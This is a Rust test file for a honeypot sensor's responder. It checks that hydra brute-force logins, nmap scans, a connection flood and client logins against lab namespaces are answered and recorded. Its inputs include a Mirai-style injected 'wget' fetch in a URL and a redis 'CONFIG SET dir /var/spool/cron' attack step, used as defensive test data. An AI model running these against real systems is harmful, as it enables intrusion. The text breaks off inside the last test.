//! The responder (`scanscope-sensor --respond`) for real, in throwaway network namespaces: the
//! sk_lookup program hands connections to any port of the responder's addresses to the agent,
//! which answers and records a session; pass-through ports and other addresses are left to
//! the host (nothing listens there: refused), and XDP still counts every SYN.
use std::process::Command;

use scanscope_tests::{transport, *};
use serde_json::Value;

/// curl from the scanner namespace, source address `src`, bounded in time; its stdout and
/// exit code.
fn curl(lab: &Lab, src: &str, url: &str, agent: &str) -> (String, i32) {
    let out = Command::new("timeout")
        .args(["-k", "2", "15", "ip", "netns", "exec", &lab.scanner_ns])
        .args(["curl", "-s", "-g", "--max-time", "5", "--interface", src])
        .args(["-A", agent, url])
        .output()
        .expect("run curl");
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        out.status.code().unwrap_or(-1),
    )
}

/// The two-namespace lab with the sensor answering as the responder: `respond` is its
/// `--respond-config` file, `extra` more agent arguments.
fn responder_lab(name: &str, respond: &str, extra: &[String]) -> Lab {
    let mut lab = Lab::new(&e2e_dir(name)).expect("build the lab");
    let rc = lab.dir.join("respond.toml");
    std::fs::write(&rc, respond).unwrap();
    lab.sensor_args = vec!["--respond-config".into(), rc.display().to_string()];
    lab.sensor_args.extend_from_slice(extra);
    lab.start_sensor("", 1.0)
        .expect("start the responder sensor");
    lab
}

/// The agent's responder process.
fn responder_process(lab: &Lab) -> u32 {
    child_of(lab.sensor_pid().expect("agent pid")).expect("the responder process")
}

fn counter(records: &[Value], name: &str) -> u64 {
    records
        .iter()
        .filter(|r| r["type"] == "stats")
        .map(|r| r["counters"][name].as_u64().unwrap_or(0))
        .sum()
}

#[test]
fn http_on_any_port_is_answered_and_recorded() {
    if privileged_or_skip().is_none() {
        return;
    }
    let mut lab = responder_lab(
        "respond-http",
        &format!(
            "addresses = [\"{SENSOR_V4}\", \"{DARK_V4}\", \"{SENSOR_V6}\"]\npass_ports = [22]\n"
        ),
        &[],
    );

    let ua = "scanscope-test/1.0 (responder)";
    let url = format!("http://{SENSOR_V4}:47123/shell?cd+/tmp;wget+http://x/m");
    let (page, code) = curl(&lab, SRC_SERVER, &url, ua);
    assert_eq!(code, 0, "curl to an unbound port of the sensor: {page}");
    assert!(page.contains("It works!"), "{page}");
    // A dark address and an IPv6 one, other ports.
    let (page, code) = curl(&lab, SRC_NMAP, "http://198.18.1.5:8081/", "dark/1");
    assert!(code == 0 && page.contains("It works!"), "{code} {page}");
    let (page, code) = curl(
        &lab,
        SRC_V6,
        &format!("http://[{SENSOR_V6}]:2375/version"),
        "v6/1",
    );
    assert!(code == 0 && page.contains("It works!"), "{code} {page}");
    // The pass-through port is the host's: nothing listens, the connection is refused (7).
    let (_, code) = curl(
        &lab,
        SRC_MIRAI,
        &format!("http://{SENSOR_V4}:22/"),
        "pass/1",
    );
    assert_eq!(code, 7, "port 22 must be left to the host");
    std::thread::sleep(std::time::Duration::from_millis(1500));
    let records = lab.stop_sensor().expect("stop sensor");

    let sessions: Vec<&Value> = records.iter().filter(|r| r["type"] == "session").collect();
    assert_eq!(sessions.len(), 3, "{sessions:#?}");
    let by_port = |p: u64| {
        sessions
            .iter()
            .find(|s| s["dst_port"] == p)
            .unwrap_or_else(|| panic!("no session on port {p}: {sessions:#?}"))
    };
    let s = by_port(47123);
    assert_eq!(s["src_ip"], SRC_SERVER);
    assert_eq!(s["dst_ip"], SENSOR_V4);
    assert_eq!(s["protocol"], "http");
    assert_eq!(s["end"], "answered");
    assert_eq!(s["http"]["method"], "GET");
    assert_eq!(s["http"]["url"], "/shell?cd+/tmp;wget+http://x/m");
    assert_eq!(s["http"]["user_agent"], ua);
    assert_eq!(s["http"]["host"], format!("{SENSOR_V4}:47123"));
    assert_eq!(s["http"]["headers"][0], "Host");
    let sent = hex::decode(s["payload_hex"].as_str().unwrap()).unwrap();
    assert!(sent.starts_with(b"GET /shell?cd+/tmp;wget+http://x/m HTTP/1.1\r\n"));
    assert_eq!(s["bytes_in"].as_u64(), Some(sent.len() as u64));
    assert!(s["bytes_out"].as_u64().unwrap() > 100);
    let d = by_port(8081);
    assert_eq!(
        (d["src_ip"].as_str(), d["dst_ip"].as_str()),
        (Some(SRC_NMAP), Some("198.18.1.5"))
    );
    assert_eq!(d["http"]["user_agent"], "dark/1");
    let v6 = by_port(2375);
    assert_eq!(v6["src_ip"], SRC_V6);
    assert_eq!(v6["http"]["url"], "/version");

    // The kernel's steering counters and the responder's own.
    assert_eq!(counter(&records, "respond_steered"), 3);
    assert_eq!(counter(&records, "respond_pass_port"), 1);
    assert_eq!(counter(&records, "respond_no_socket"), 0);
    assert_eq!(counter(&records, "respond_sessions"), 3);
    assert_eq!(counter(&records, "respond_refused_busy"), 0);
    // XDP counted every SYN as before, the pass-through one too.
    let syns = |src: &str, port: u64| -> u64 {
        records
            .iter()
            .filter(|r| {
                r["type"] == "flow"
                    && r["kind"] == "tcp_syn"
                    && r["src_ip"] == src
                    && r["dst_port"] == port
            })
            .map(|r| r["packets"].as_u64().unwrap())
            .sum()
    };
    assert_eq!(syns(SRC_SERVER, 47123), 1);
    assert_eq!(syns(SRC_NMAP, 8081), 1);
    assert_eq!(syns(SRC_V6, 2375), 1);
    assert!(syns(SRC_MIRAI, 22) >= 1, "the refused SYN (curl may retry)");
}

/// Runs `args` in the scanner namespace within `secs` (the client's own failure is expected:
/// every login is refused); its stdout and stderr.
fn client(lab: &Lab, secs: u32, args: &[&str]) -> String {
    client_in(&lab.scanner_ns, &lab.dir, secs, args).expect("run the client")
}

/// The sessions of `protocol` on `port`.
fn sessions_on<'a>(records: &'a [Value], protocol: &str, port: u64) -> Vec<&'a Value> {
    records
        .iter()
        .filter(|r| r["type"] == "session" && r["protocol"] == protocol && r["dst_port"] == port)
        .collect()
}

/// Every (user, secret) attempt of these sessions, in order.
fn attempts(sessions: &[&Value]) -> Vec<(String, String)> {
    sessions
        .iter()
        .flat_map(|s| s["credentials"].as_array().cloned().unwrap_or_default())
        .map(|c| {
            (
                c["user"].as_str().unwrap_or_default().to_string(),
                c["secret"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect()
}

/// The `(user, secret)` attempts of these sessions, in order.
fn methods(sessions: &[&Value]) -> Vec<String> {
    sessions
        .iter()
        .flat_map(|s| s["credentials"].as_array().cloned().unwrap_or_default())
        .map(|c| c["method"].as_str().unwrap_or_default().to_string())
        .collect()
}

/// A session's `details` entry `name=…`.
fn detail(s: &Value, name: &str) -> Option<String> {
    s["details"].as_array()?.iter().find_map(|d| {
        d.as_str()?
            .strip_prefix(&format!("{name}="))
            .map(str::to_string)
    })
}

/// The mysql_native_password response to `salt` for `password` (MySQL's documented scramble):
/// `SHA1(pw) XOR SHA1(salt + SHA1(SHA1(pw)))`.
fn mysql_scramble(salt: &[u8], password: &str) -> String {
    use sha1::{Digest, Sha1};
    let h1 = Sha1::digest(password.as_bytes());
    let h2 = Sha1::digest(h1);
    let mut m = Sha1::new();
    m.update(salt);
    m.update(h2);
    let h3 = m.finalize();
    hex::encode(
        h1.iter()
            .zip(h3.iter())
            .map(|(a, b)| a ^ b)
            .collect::<Vec<u8>>(),
    )
}

/// JA4 of every ClientHello in a capture, by the PyPI `ja4plus` package (FoxIO's algorithm,
/// an implementation independent of ours): destination port → JA4.
fn ja4plus(pcap: &std::path::Path) -> std::collections::BTreeMap<u64, String> {
    let script = r#"
import json, sys
from scapy.all import rdpcap, TCP
from ja4plus import JA4Fingerprinter
fp = JA4Fingerprinter()
out = {}
for p in rdpcap(sys.argv[1]):
    if TCP in p:
        r = fp.process_packet(p)
        if r:
            out[p[TCP].dport] = r if isinstance(r, str) else str(r)
print(json.dumps(out))
"#;
    let out = Command::new("python3")
        .args(["-c", script])
        .arg(pcap)
        .output()
        .expect("run python3 with ja4plus");
    assert!(
        out.status.success(),
        "ja4plus: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).expect("ja4plus JSON");
    v.as_object()
        .unwrap()
        .iter()
        .map(|(k, v)| (k.parse().unwrap(), v.as_str().unwrap().to_string()))
        .collect()
}

/// The SSH client identification and HASSH of every connection to `port` in a capture,
/// computed here from the raw TCP payload of the client's packets (scapy reassembly per
/// connection, RFC 4253 parsing, MD5).
fn hassh_from_pcap(pcap: &std::path::Path, port: u16) -> Vec<(String, String)> {
    let script = r#"
import hashlib, json, struct, sys
from scapy.all import rdpcap, TCP, Raw
port = int(sys.argv[2])
streams = {}
for p in rdpcap(sys.argv[1]):
    if TCP in p and p[TCP].dport == port and Raw in p:
        seen, data = streams.setdefault(p[TCP].sport, (set(), bytearray()))
        if p[TCP].seq not in seen:
            seen.add(p[TCP].seq)
            data += bytes(p[Raw].load)
out = []
for seen, data in streams.values():
    data = bytes(data)
    line, rest = data.split(b"\r\n", 1)
    n, pad = struct.unpack(">IB", rest[:5])
    payload = rest[5:4 + n - pad]
    assert payload[0] == 20, payload[:1]
    lists, off = [], 17
    for _ in range(10):
        (k,) = struct.unpack(">I", payload[off:off + 4])
        lists.append(payload[off + 4:off + 4 + k].decode())
        off += 4 + k
    h = hashlib.md5(";".join([lists[0], lists[2], lists[4], lists[6]]).encode()).hexdigest()
    out.append([line.decode(), h])
print(json.dumps(out))
"#;
    let out = Command::new("python3")
        .args(["-c", script])
        .arg(pcap)
        .arg(port.to_string())
        .output()
        .expect("run python3 with scapy");
    assert!(
        out.status.success(),
        "pcap HASSH: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("JSON")
}

#[test]
fn real_clients_are_answered_and_their_logins_recorded() {
    if privileged_or_skip().is_none() {
        return;
    }
    let mut lab = Lab::new(&e2e_dir("respond-clients")).expect("build the lab");
    let rc = lab.dir.join("respond.toml");
    std::fs::write(
        &rc,
        format!(
            "addresses = [\"{SENSOR_V4}\", \"{SENSOR_V6}\"]\npass_ports = [22]\nmax_per_source = 64\n"
        ),
    )
    .unwrap();
    // The sessions also travel to a collector (in the sensor namespace, on its loopback).
    let lake = lab.dir.join("lake");
    let ns = lab.sensor_ns.clone();
    let mut collector = transport::CollectorProc::start_with_prefix(
        &["ip", "netns", "exec", &ns],
        "127.0.0.1:0",
        &lake,
        &["--flush-secs", "1"],
    )
    .expect("start collector");
    lab.sensor_args = vec![
        "--respond-config".into(),
        rc.display().to_string(),
        "--collector".into(),
        collector.url(),
        "--spool-dir".into(),
        lab.dir.join("spool").display().to_string(),
    ];
    lab.start_sensor("", 1.0)
        .expect("start the responder sensor");
    // The capture the TLS and SSH fingerprints are checked against.
    let pcap = lab.dir.join("clients.pcap");
    let pcap_s = pcap.display().to_string();
    let mut tcpdump = lab
        .spawn_in_scanner(&[
            "tcpdump",
            "-i",
            &lab.scanner_if,
            "-U",
            "-n",
            "-s",
            "0",
            "-w",
            &pcap_s,
            "tcp and (dst port 8443 or dst port 9443 or dst port 2222)",
        ])
        .expect("start tcpdump");
    std::thread::sleep(std::time::Duration::from_millis(1500));

    let pw = lab.dir.join("passwords.txt");
    let passwords = ["123456", "admin", "hunter2"];
    std::fs::write(&pw, passwords.join("\n") + "\n").unwrap();
    let pw = pw.display().to_string();
    let mut log = String::new();
    let hydra = |args: &[&str]| {
        let mut a = vec!["hydra", "-I", "-t", "1"];
        a.extend_from_slice(args);
        client(&lab, 60, &a)
    };
    for (proto, port) in [("ftp", "21"), ("mysql", "3306")] {
        log += &hydra(&["-l", "root", "-P", &pw, "-s", port, SENSOR_V4, proto]);
    }
    log += &hydra(&[
        "-l", "root", "-P", &pw, "-s", "8080", SENSOR_V4, "http-get", "/admin",
    ]);
    log += &hydra(&["-P", &pw, "-s", "5900", SENSOR_V4, "vnc"]);
    log += &hydra(&["-l", "root", "-P", &pw, "-s", "2222", SENSOR_V4, "ssh"]);
    // hydra 9.4's telnet module sends a broken pair ("" / "oot") for every attempt after the
    // first on one connection (its own -d output shows it), so each password is one run.
    for p in passwords {
        log += &hydra(&["-l", "root", "-p", p, "-s", "2323", SENSOR_V4, "telnet"]);
    }
    let url = |scheme: &str, port: u16| format!("{scheme}://{SENSOR_V4}:{port}/");
    log += &client(
        &lab,
        15,
        &[
            "openssl",
            "s_client",
            "-connect",
            &format!("{SENSOR_V4}:8443"),
            "-servername",
            "probe.example.org",
            "-alpn",
            "h2,http/1.1",
        ],
    );
    log += &client(
        &lab,
        15,
        &["curl", "-sk", "--max-time", "5", &url("https", 9443)],
    );
    // OpenSSH offers its key: recorded as the fingerprint ssh-keygen prints.
    let key = lab.dir.join("id_ed25519");
    let keygen = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(&key)
        .status()
        .expect("ssh-keygen");
    assert!(keygen.success());
    let listed = Command::new("ssh-keygen")
        .arg("-lf")
        .arg(key.with_extension("pub"))
        .output()
        .expect("ssh-keygen -l");
    let listed = String::from_utf8_lossy(&listed.stdout).into_owned();
    let fingerprint = listed
        .split_whitespace()
        .nth(1)
        .expect("fingerprint")
        .to_string();
    let key_s = key.display().to_string();
    log += &client(
        &lab,
        15,
        &[
            "ssh",
            "-i",
            &key_s,
            "-o",
            "IdentitiesOnly=yes",
            "-p",
            "2222",
            "-o",
            "BatchMode=yes",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "ConnectTimeout=5",
            &format!("admin@{SENSOR_V4}"),
            "true",
        ],
    );
    log += &client(
        &lab,
        15,
        &[
            "mariadb",
            "-h",
            SENSOR_V4,
            "-P",
            "3306",
            "-u",
            "dbadmin",
            "-pdbsecret",
            "--connect-timeout=5",
            "-D",
            "shop",
            "-e",
            "select 1",
        ],
    );
    log += &client(
        &lab,
        15,
        &[
            "redis-cli",
            "-h",
            SENSOR_V4,
            "-p",
            "6379",
            "CONFIG",
            "SET",
            "dir",
            "/var/spool/cron",
        ],
    );
    log += &client(
        &lab,
        15,
        &[
            "redis-cli",
            "-h",
            SENSOR_V4,
            "-p",
            "6380",
            "--no-auth-warning",
            "-a",
            "r3dis",
            "PING",
        ],
    );
    log += &client(
        &lab,
        15,
        &[
            "mosquitto_pub",
            "-h",
            SENSOR_V4,
            "-p",
            "1883",
            "-i",
            "probe-client",
            "-u",
            "mqttuser",
            "-P",
            "mqttpw",
            "-t",
            "a/b",
            "-m",
            "x",
        ],
    );
    log += &client(
        &lab,
        15,
        &[
            "psql",
            &format!(
                "host={SENSOR_V4} port=5432 user=pguser dbname=pgdb password=pgpw connect_timeout=5 application_name=scan"
            ),
            "-c",
            "select 1",
        ],
    );
    for (scheme, port, user) in [
        ("smtp", 25, "smtpuser:smtppw"),
        ("pop3", 110, "popuser:poppw"),
        ("imap", 143, "imapuser:imappw"),
    ] {
        let mut a = vec!["curl", "-s", "--max-time", "8", "--user", user];
        if scheme == "smtp" {
            a.extend([
                "--mail-from",
                "a@example.org",
                "--mail-rcpt",
                "victim@example.com",
                "-T",
                "/dev/null",
            ]);
        }
        let u = url(scheme, port);
        a.push(&u);
        log += &client(&lab, 15, &a);
    }
    // Two phases: masscan's stateless SYNs, then a real handshake (curl) from the same source.
    lab.scan(
        &Scan::masscan(
            &lab.scanner_if,
            SRC_MASSCAN,
            &lab.sensor_mac,
            "8081-8084",
            &[SENSOR_V4],
        )
        .args(),
        5,
    )
    .expect("masscan");
    let (_, code) = curl(
        &lab,
        SRC_MASSCAN,
        &format!("http://{SENSOR_V4}:8090/phase2"),
        "second/1",
    );
    assert_eq!(code, 0);
    std::fs::write(lab.dir.join("clients.log"), &log).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1500));
    let stopped = Command::new("kill")
        .args(["-INT", &tcpdump.id().to_string()])
        .status()
        .is_ok_and(|s| s.success());
    assert!(stopped, "tcpdump must still run until here");
    tcpdump.wait().expect("tcpdump exits");
    let records = lab.stop_sensor().expect("stop sensor");
    let dump: Vec<String> = records
        .iter()
        .filter(|r| r["type"] == "session")
        .map(|r| r.to_string())
        .collect();
    std::fs::write(lab.dir.join("sessions.jsonl"), dump.join("\n")).unwrap();

    // hydra: exactly the pairs it tried, per protocol, each refused.
    let want: Vec<(String, String)> = passwords
        .iter()
        .map(|p| ("root".to_string(), p.to_string()))
        .collect();
    for (proto, port) in [("telnet", 2323), ("ftp", 21), ("http", 8080)] {
        let s = sessions_on(&records, proto, port);
        let mut got = attempts(&s);
        got.sort();
        assert_eq!(got, want, "{proto}: {s:#?}\n{log}");
    }
    assert!(log.matches("0 valid password found").count() >= 8, "{log}");
    // mysql_native_password: the response is the scramble of one of the passwords with the
    // session's salt; each password once.
    let my: Vec<&Value> = sessions_on(&records, "mysql", 3306)
        .into_iter()
        .filter(|s| !s["credentials"].as_array().unwrap().is_empty())
        .collect();
    let mut tried: Vec<&str> = Vec::new();
    for s in my.iter().filter(|s| s["credentials"][0]["user"] == "root") {
        let salt = hex::decode(detail(s, "salt").expect("salt")).unwrap();
        let secret = s["credentials"][0]["secret"].as_str().unwrap();
        let p = passwords
            .iter()
            .find(|p| mysql_scramble(&salt, p) == secret)
            .unwrap_or_else(|| panic!("no password gives {secret}: {s:#}"));
        tried.push(p);
    }
    tried.sort();
    assert_eq!(tried, ["123456", "admin", "hunter2"], "{my:#?}");
    // The mariadb client: its user, its database, and the scramble of its password.
    let m = my
        .iter()
        .find(|s| s["credentials"][0]["user"] == "dbadmin")
        .unwrap_or_else(|| panic!("no mariadb session: {my:#?}\n{log}"));
    let salt = hex::decode(detail(m, "salt").unwrap()).unwrap();
    assert_eq!(
        m["credentials"][0]["secret"],
        mysql_scramble(&salt, "dbsecret")
    );
    assert_eq!(detail(m, "database").as_deref(), Some("shop"));
    // VNC: three challenge responses.
    let vnc = sessions_on(&records, "vnc", 5900);
    assert_eq!(methods(&vnc), ["vnc_challenge"; 3], "{vnc:#?}");
    assert!(
        vnc.iter()
            .all(|s| detail(s, "rfb").is_some_and(|v| v.starts_with("RFB 003.")))
    );

    // TLS: JA4 as ja4plus computes it from the capture; SNI and ALPN as sent.
    let reference = ja4plus(&pcap);
    let tls = sessions_on(&records, "tls", 8443);
    assert_eq!(tls.len(), 1, "{tls:#?}");
    assert_eq!(tls[0]["tls"]["sni"], "probe.example.org");
    assert_eq!(tls[0]["tls"]["alpn"], serde_json::json!(["h2", "http/1.1"]));
    let ja4_of = |port: u64| {
        reference
            .get(&port)
            .unwrap_or_else(|| panic!("ja4plus found no ClientHello to {port}: {reference:?}"))
            .as_str()
    };
    assert_eq!(tls[0]["tls"]["ja4"], ja4_of(8443));
    let curl_tls = sessions_on(&records, "tls", 9443);
    assert_eq!(curl_tls.len(), 1, "{curl_tls:#?}");
    assert_eq!(curl_tls[0]["tls"]["ja4"], ja4_of(9443));
    assert_ne!(
        ja4_of(8443),
        ja4_of(9443),
        "openssl and curl were asked for different hellos"
    );
    assert!(
        curl_tls[0]["tls"]["sni"].is_null(),
        "curl sends no SNI to an address"
    );

    // SSH: the client's banner and HASSH as computed from the capture.
    let captured = hassh_from_pcap(&pcap, 2222);
    let (banner, hassh) = captured
        .iter()
        .find(|(b, _)| b.starts_with("SSH-2.0-OpenSSH"))
        .cloned()
        .unwrap_or_else(|| panic!("no OpenSSH connection captured: {captured:?}"));
    // hydra's libssh connections have their own HASSH, equal in the capture and the lake.
    for s in sessions_on(&records, "ssh", 2222) {
        let b = s["ssh_client_banner"].as_str().unwrap_or_default();
        assert!(
            captured
                .iter()
                .any(|(cb, ch)| cb == b && s["hassh"] == ch.as_str()),
            "{s:#}\n{captured:?}"
        );
    }
    let ssh = sessions_on(&records, "ssh", 2222);
    let openssh: Vec<&Value> = ssh
        .iter()
        .copied()
        .filter(|s| {
            s["ssh_client_banner"]
                .as_str()
                .is_some_and(|b| b.starts_with("SSH-2.0-OpenSSH"))
        })
        .collect();
    assert_eq!(openssh.len(), 1, "{ssh:#?}");
    assert!(banner.starts_with("SSH-2.0-OpenSSH"), "{banner}");
    assert_eq!(openssh[0]["ssh_client_banner"], banner.as_str());
    assert_eq!(openssh[0]["hassh"], hassh.as_str());
    assert_eq!(
        attempts(&openssh),
        [("admin".to_string(), fingerprint.clone())]
    );
    assert_eq!(methods(&openssh), ["publickey"]);
    // hydra (libssh): its three passwords, each refused.
    let libssh: Vec<&Value> = ssh
        .iter()
        .copied()
        .filter(|s| !openssh.contains(s))
        .collect();
    let mut got: Vec<(String, String)> = attempts(&libssh)
        .into_iter()
        .filter(|(_, p)| !p.is_empty())
        .collect();
    got.sort();
    assert_eq!(got, want, "{libssh:#?}");

    // Redis: the command and the AUTH attempt; MQTT, PostgreSQL, mail: users and passwords.
    let redis = sessions_on(&records, "redis", 6379);
    assert_eq!(
        redis[0]["commands"],
        serde_json::json!(["CONFIG SET dir /var/spool/cron"])
    );
    assert!(
        redis[0]["tags"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t == "redis_config")
    );
    let auth = sessions_on(&records, "redis", 6380);
    assert_eq!(
        attempts(&auth),
        [("default".to_string(), "r3dis".to_string())]
    );
    let mq = sessions_on(&records, "mqtt", 1883);
    assert_eq!(
        attempts(&mq),
        [("mqttuser".to_string(), "mqttpw".to_string())]
    );
    assert_eq!(detail(mq[0], "client_id").as_deref(), Some("probe-client"));
    let pg = sessions_on(&records, "postgres", 5432);
    assert_eq!(
        attempts(&pg),
        [("pguser".to_string(), "pgpw".to_string())],
        "{pg:#?}"
    );
    assert_eq!(detail(pg[0], "database").as_deref(), Some("pgdb"));
    assert_eq!(detail(pg[0], "application_name").as_deref(), Some("scan"));
    for (proto, port, user, pass) in [
        ("smtp", 25, "smtpuser", "smtppw"),
        ("pop3", 110, "popuser", "poppw"),
        ("imap", 143, "imapuser", "imappw"),
    ] {
        let s = sessions_on(&records, proto, port);
        assert_eq!(
            attempts(&s),
            [(user.to_string(), pass.to_string())],
            "{proto}: {s:#?}"
        );
    }
    // No session ended in an error of the responder, and the caps held.
    assert_eq!(counter(&records, "respond_records_lost"), 0);
    assert_eq!(counter(&records, "respond_refused_busy"), 0);

    // The lake holds every session, as DuckDB reads it: same rows per protocol, same logins.
    collector.stop().expect("collector stops cleanly");
    let sql = format!(
        "SELECT protocol, count(*), sum(len(auth_users)), string_agg(DISTINCT ja4, ','), \
         string_agg(DISTINCT hassh, ',') FROM read_parquet('{}/sessions/*/*.parquet', \
         hive_partitioning = true) GROUP BY protocol ORDER BY protocol",
        lake.display()
    );
    let lake_rows = duckdb(&sql);
    let mut jsonl: std::collections::BTreeMap<String, (u64, u64)> = Default::default();
    for s in records.iter().filter(|r| r["type"] == "session") {
        let e = jsonl
            .entry(s["protocol"].as_str().unwrap().to_string())
            .or_default();
        e.0 += 1;
        e.1 += s["credentials"].as_array().unwrap().len() as u64;
    }
    let from_lake: std::collections::BTreeMap<String, (u64, u64)> = lake_rows
        .iter()
        .map(|r| {
            (
                r[0].as_str().unwrap().to_string(),
                (r[1].as_u64().unwrap(), r[2].as_u64().unwrap()),
            )
        })
        .collect();
    assert_eq!(from_lake, jsonl);
    let row = |p: &str| lake_rows.iter().find(|r| r[0] == p).unwrap();
    assert_eq!(
        row("tls")[3].as_str().map(|j| j.split(',').count()),
        Some(2)
    );
    assert!(row("tls")[3].as_str().unwrap().contains(ja4_of(8443)));
    let mut lake_hassh: Vec<&str> = row("ssh")[4].as_str().unwrap().split(',').collect();
    lake_hassh.sort();
    let mut pcap_hassh: Vec<&str> = captured.iter().map(|(_, h)| h.as_str()).collect();
    pcap_hassh.sort();
    pcap_hassh.dedup();
    assert_eq!(lake_hassh, pcap_hassh);
    let mq = duckdb(&format!(
        "SELECT auth_methods, auth_users, auth_secrets, details, src_ip, dst_port \
         FROM read_parquet('{}/sessions/*/*.parquet') WHERE protocol = 'mqtt'",
        lake.display()
    ));
    // The rollup of the day: the sessions' facts per source, and the two-phase scanner.
    let date = chrono::Utc::now().date_naive().to_string();
    let lake_s = lake.display().to_string();
    transport::collector_run(&["rollup", "--data", &lake_s, "--date", &date, "--json"])
        .expect("rollup");
    let ip = duckdb(&format!(
        "SELECT src_ip, two_phase_tool, list_contains(tags, 'two_phase'), http_url, sessions, \
         login_attempts, users, http_user_agent FROM read_parquet('{lake_s}/ip_daily/*/*.parquet') \
         ORDER BY src_ip"
    ));
    let of = |src: &str| {
        ip.iter()
            .find(|r| r[0] == src)
            .unwrap_or_else(|| panic!("{src} not in ip_daily: {ip:#?}"))
    };
    let m = of(SRC_MASSCAN);
    assert_eq!(m[1], "masscan", "{m}");
    assert_eq!(m[2], true);
    assert!(
        m[3].as_array().unwrap().iter().any(|u| u == "GET /phase2"),
        "{m}"
    );
    assert_eq!(m[7], serde_json::json!(["second/1"]), "{m}");
    // The telnet, ftp, http and ssh logins of hydra's source, all refused, all counted.
    let hydra_src = mq_src(&records);
    let h = of(hydra_src.as_str().unwrap());
    assert!(h[5].as_u64().unwrap() >= 18, "{h}");
    assert!(h[6].as_array().unwrap().iter().any(|u| u == "root"), "{h}");
    assert_eq!(h[1], Value::Null, "no stateless probe from hydra's source");
    assert_eq!(
        mq,
        [serde_json::json!([
            ["password"],
            ["mqttuser"],
            ["mqttpw"],
            ["client_id=probe-client", "mqtt_level=4"],
            mq_src(&records),
            1883
        ])]
    );
}

/// The source address of the MQTT session in the JSON lines.
fn mq_src(records: &[Value]) -> Value {
    records
        .iter()
        .find(|r| r["type"] == "session" && r["protocol"] == "mqtt")
        .map(|r| r["src_ip"].clone())
        .unwrap_or_default()
}

/// Rows of a DuckDB query, as JSON arrays.
fn duckdb(sql: &str) -> Vec<Value> {
    let script = "import duckdb, json, sys\nprint(json.dumps(duckdb.sql(sys.argv[1]).fetchall(), default=str))";
    let out = Command::new("python3")
        .args(["-c", script, sql])
        .output()
        .expect("run duckdb");
    assert!(
        out.status.success(),
        "duckdb: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice::<Vec<Value>>(&out.stdout).expect("JSON rows")
}

/// Rows of `nmap -oG` output: (port, state, service, version) per open port.
fn nmap_services(grepable: &str) -> Vec<(u16, String, String, String)> {
    grepable
        .lines()
        .filter_map(|l| l.split_once("Ports: ").map(|(_, p)| p))
        .flat_map(|ports| ports.split(", "))
        .filter_map(|p| {
            let f: Vec<&str> = p.split('/').collect();
            Some((
                f.first()?.trim().parse().ok()?,
                f.get(1)?.to_string(),
                f.get(4)?.to_string(),
                f.get(6).unwrap_or(&"").to_string(),
            ))
        })
        .collect()
}

#[test]
fn nmap_version_scan_sees_plausible_servers_and_caps_hold() {
    if privileged_or_skip().is_none() {
        return;
    }
    let mut lab = responder_lab(
        "respond-nmap",
        &format!(
            "addresses = [\"{SENSOR_V4}\"]\npass_ports = [22]\nmax_per_source = 16\nmax_new_per_source = 400\nfirst_byte_secs = 4.0\n"
        ),
        &[],
    );
    // nmap's NULL probe calls a port `tcpwrapped` when it is closed within 3 s
    // (`tcpwrappedms 3000`) and waits 6 s for a banner: the silent-client timeout sits between
    // (at exactly 3 s, port 80 came out `tcpwrapped` once in a while).
    let ports = "21,23,25,80,110,143,2222,3306,5432,5900,6379,8080";
    let out = client(
        &lab,
        120,
        &[
            "nmap",
            "-sV",
            "-Pn",
            "-n",
            "--version-light",
            "--max-rate",
            "200",
            "-e",
            &lab.scanner_if,
            "-S",
            SRC_NMAP,
            "-p",
            ports,
            "-oG",
            "-",
            SENSOR_V4,
        ],
    );
    let services = nmap_services(&out);
    // Every port is open (the responder takes any port), and nmap names the servers the
    // banners imitate.
    assert_eq!(services.len(), 12, "{out}");
    assert!(services.iter().all(|s| s.1 == "open"), "{services:?}");
    let service = |port: u16| {
        services
            .iter()
            .find(|s| s.0 == port)
            .map(|s| (s.2.as_str(), s.3.as_str()))
            .unwrap_or_default()
    };
    assert_eq!(service(2222).0, "ssh", "{services:?}");
    assert!(service(2222).1.contains("OpenSSH 9.2p1"), "{services:?}");
    assert_eq!(service(21).0, "ftp", "{services:?}");
    assert!(service(21).1.contains("vsftpd"), "{services:?}");
    assert_eq!(service(80).0, "http", "{services:?}");
    assert!(service(80).1.contains("Apache"), "{services:?}");
    assert_eq!(service(25).0, "smtp", "{services:?}");
    assert_eq!(service(6379).0, "redis", "{services:?}");
    assert_eq!(service(3306).0, "mysql", "{services:?}");
    assert_eq!(service(5900).0, "vnc", "{services:?}");
    // (On 23, 110, 143 and 5432 nmap's later probes send HTTP first, and the responder answers
    // by content, as the design says: nmap then settles on http.)

    // The per-source cap: 24 connections held open at once from one source, 16 admitted.
    let hold = r#"
import socket, sys, time
socks = []
for p in range(9000, 9024):
    s = socket.socket(); s.bind((sys.argv[1], 0)); s.connect((sys.argv[2], p)); socks.append(s)
time.sleep(1.0)
refused = 0
for s in socks:
    s.setblocking(False)
    try:
        if s.recv(1) == b"":
            refused += 1
    except BlockingIOError:
        pass
    except ConnectionResetError:
        refused += 1
print(refused)
"#;
    let refused = client(&lab, 30, &["python3", "-c", hold, SRC_MIRAI, SENSOR_V4]);
    assert_eq!(refused.trim(), "8", "closed at once: {refused}");
    // A flood from one source: 600 connections opened and held; all but the caps' share
    // refused, and the responder's memory stays bounded.
    let flood = r#"
import socket, sys, time
socks = []
for i in range(600):
    s = socket.socket(); s.bind((sys.argv[1], 0)); s.connect((sys.argv[2], 10000 + i)); socks.append(s)
time.sleep(0.5)
print(len(socks))
"#;
    let opened = client(&lab, 60, &["python3", "-c", flood, SRC_ZMAP, SENSOR_V4]);
    assert_eq!(opened.trim(), "600", "{opened}");
    let child = responder_process(&lab);
    let hwm_kb: u64 = proc_status(child, "VmHWM")
        .and_then(|v| v.trim_end_matches(" kB").parse().ok())
        .expect("VmHWM");
    assert!(hwm_kb < 64 * 1024, "responder peak memory {hwm_kb} kB");
    std::thread::sleep(std::time::Duration::from_millis(5500));
    let records = lab.stop_sensor().expect("stop sensor");
